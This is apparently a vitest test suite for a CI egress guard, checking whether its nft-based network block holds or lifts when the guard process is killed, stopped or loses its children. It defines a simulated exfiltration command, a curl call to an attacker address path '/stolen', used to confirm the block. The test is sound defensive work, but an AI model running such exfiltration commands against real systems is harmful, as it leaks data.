/** The guard is killed or stopped, with what it had started. */
import { existsSync } from "node:fs";

import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import type { Machine } from "../../support/internet/internet.ts";
import { type AttackScene, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import {
  childrenOf,
  commandLineOf,
  guardTablesOf,
  startGuard,
  type StandingGuard,
  waitUntil,
} from "./support/guard-in-pod.ts";
import { toPolicy } from "./support/guarded-pod.ts";

const obstacle = findObstacle();
const BLOCK = toPolicy({ allow: ["github.test"] });
const STEAL = `curl -4 -sS -m 2 http://${ATTACKER.ipv4}/stolen`;
const REFUSED = `curl: (7) Failed to connect to ${ATTACKER.ipv4} port 80`;
const ASK = "dig +short +tries=1 +time=1 github.test";

const isOpen = async (pod: Machine): Promise<boolean> => (await guardTablesOf(pod)).length === 0;

describe.skipIf(obstacle !== "")(`a guard that dies${obstacle}`, () => {
  let scene: AttackScene;
  const guards: StandingGuard[] = [];
  beforeAll(async () => {
    scene = await createAttackScene();
  });
  afterAll(async () => {
    for (const guard of guards) {
      guard.finish();
      guard.child.kill("SIGKILL");
    }
    await scene[Symbol.asyncDispose]();
  });

  const start = async (policy: string): Promise<{ pod: Machine; guard: StandingGuard }> => {
    const pod = await scene.internet.pod();
    const guard = await startGuard(pod, { policy });
    guards.push(guard);
    return { pod, guard };
  };
  test("in audit mode leaves the job as it was, with its resolver", async () => {
    const { pod, guard } = await start(toPolicy({ mode: "audit", allow: ["github.test"] }));
    process.kill(guard.pid, "SIGKILL");
    await waitUntil("the table's end", () => isOpen(pod));

    expect(await guard.inside(`${STEAL}; ${ASK}`)).toBe("attacker GET /stolen\n198.51.100.10\n");
    guard.finish();
  });

  test("with on-guard-death: open leaves the job as it was, with its resolver", async () => {
    const policy = JSON.parse(BLOCK);
    policy.egress["on-guard-death"] = "open";
    const { pod, guard } = await start(JSON.stringify(policy));
    expect(await guard.inside(STEAL)).toContain(REFUSED);
    process.kill(guard.pid, "SIGKILL");
    await waitUntil("the table's end", () => isOpen(pod));

    expect(await guard.inside(`${STEAL}; ${ASK}`)).toBe("attacker GET /stolen\n198.51.100.10\n");
    guard.finish();
  });

  test("in block mode leaves the block on what lives of the command, and nothing afterwards", async () => {
    const { pod, guard } = await start(BLOCK);
    const children = childrenOf(guard.pid).filter((pid) =>
      /nft -f|hold-until/.test(commandLineOf(pid)),
    );
    expect(children).toHaveLength(2);
    await scene.internet.forget();
    process.kill(guard.pid, "SIGKILL");
    await guard.ended;

    const said = await guard.inside(
      `${STEAL}; ${ASK}; ${ASK} @1.1.1.1; ping -c1 -W1 ${ATTACKER.ipv4}`,
    );
    expect(said).toContain(REFUSED);
    expect(said).not.toContain("198.51.100.10");
    expect(await scene.internet.capture.packets({ from: pod })).toEqual([]);
    guard.finish();
    await waitUntil("the table's end", () => isOpen(pod));
    await waitUntil("the control group's end", () => !existsSync(guard.cgroup));
    await waitUntil("the children's end", () => children.every((pid) => commandLineOf(pid) === ""));
  });

  test("whose children were killed has others, so that its death still leaves the block", async () => {
    const { pod, guard } = await start(BLOCK);
    const find = (): readonly number[] =>
      childrenOf(guard.pid).filter((pid) => /nft -f|hold-until/.test(commandLineOf(pid)));
    const before = find();
    expect(before).toHaveLength(2);
    await guard.inside(`kill -9 ${before.join(" ")}`);
    await waitUntil("new children", () => {
      const now = find();
      return now.length === 2 && now.every((pid) => !before.includes(pid));
    });
    expect(await guard.inside(STEAL)).toContain(REFUSED);
    process.kill(guard.pid, "SIGKILL");
    await guard.ended;

    expect(await guard.inside(STEAL)).toContain(REFUSED);
    guard.finish();
    await waitUntil("the table's end", () => isOpen(pod));
  });

  test.each([["nft"], ["hold-until-empty"]])(
    "whose %s alone was killed still has its block",
    async (name) => {
      const { pod, guard } = await start(BLOCK);
      const [victim = 0] = childrenOf(guard.pid).filter((pid) => commandLineOf(pid).includes(name));
      await guard.inside(`kill -9 ${victim}`);
      await waitUntil("a new child", () => {
        const [now = victim] = childrenOf(guard.pid).filter((pid) =>
          commandLineOf(pid).includes(name),
        );
        return now !== victim;
      });

      expect(await guard.inside(STEAL)).toContain(REFUSED);
      expect(await guard.inside(ASK)).toBe("198.51.100.10\n");
      expect(await guardTablesOf(pod)).toEqual(["runner_guard"]);
      guard.finish();
      await guard.ended;
      expect(await isOpen(pod)).toBe(true);
    },
  );

  test("and is stopped lets nothing out that was not open, and goes on where it was", async () => {
    const { pod, guard } = await start(BLOCK);
    await scene.internet.forget();
    process.kill(guard.pid, "SIGSTOP");
    const said = await guard.inside(`${STEAL}; ${ASK}`);
    expect(said).toContain(REFUSED);
    expect(said).not.toContain("198.51.100.10");
    expect(await scene.internet.capture.packets({ from: pod })).toEqual([]);
    process.kill(guard.pid, "SIGCONT");
    expect(await guard.inside(ASK)).toBe("198.51.100.10\n");
    guard.finish();
    expect(await guard.ended).toEqual({ status: 0, signal: null });
  });

  test("with everything of its own leaves the block, and the next guard takes it away when the job is over", async () => {
    const { pod, guard } = await start(BLOCK);
    const children = childrenOf(guard.pid).filter((pid) =>
      /nft -f|hold-until/.test(commandLineOf(pid)),
    );
    // Stopped first, so that it starts no others.
    process.kill(guard.pid, "SIGSTOP");
    for (const pid of [...children, guard.pid]) process.kill(pid, "SIGKILL");
    await guard.ended;
    expect(await guard.inside(STEAL)).toContain(REFUSED);

    const second = await startGuard(pod, { policy: BLOCK, name: "second" });
    guards.push(second);
    expect(await guardTablesOf(pod)).toEqual(["runner_guard", "runner_guard_2"]);
    expect(await guard.inside(STEAL)).toContain(REFUSED);
    second.finish();
    await second.ended;

    guard.finish();
    await waitUntil(
      "the job's end",
      async () =>
        (await pod.run(["grep", "-q", "populated 0", `${guard.cgroup}/cgroup.events`])).status ===
        0,
    );
    const third = await startGuard(pod, { policy: BLOCK, name: "third" });
    guards.push(third);
    expect(await guardTablesOf(pod)).toEqual([expect.any(String)]);
    expect(existsSync(guard.cgroup)).toBe(false);
    third.finish();
    await third.ended;
    expect(await isOpen(pod)).toBe(true);
  });
});
